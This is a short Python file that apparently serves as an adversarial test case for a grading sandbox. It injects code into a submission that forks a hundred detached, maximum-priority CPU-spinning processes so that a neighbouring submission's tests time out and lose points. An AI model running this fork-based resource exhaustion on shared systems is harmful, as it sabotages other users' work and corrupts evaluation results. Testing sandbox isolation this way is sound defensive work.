"""Starts a hundred processes that compute without end, in a session of their own if possible.

Success: a neighbor's tests take too long, so that it loses points.
"""

ALONE = True


def attack(submission):
    submission.first(
        """
        import os, time

        end = time.monotonic() + 20
        for _ in range(100):
            try:
                if os.fork():
                    continue
            except OSError:
                break
            for change in (os.setsid, lambda: os.setpgid(0, 0), lambda: os.nice(-20)):
                try:
                    change()
                except OSError:
                    pass
            while time.monotonic() < end:
                pass
            os._exit(0)
        time.sleep(20)
    """
    )
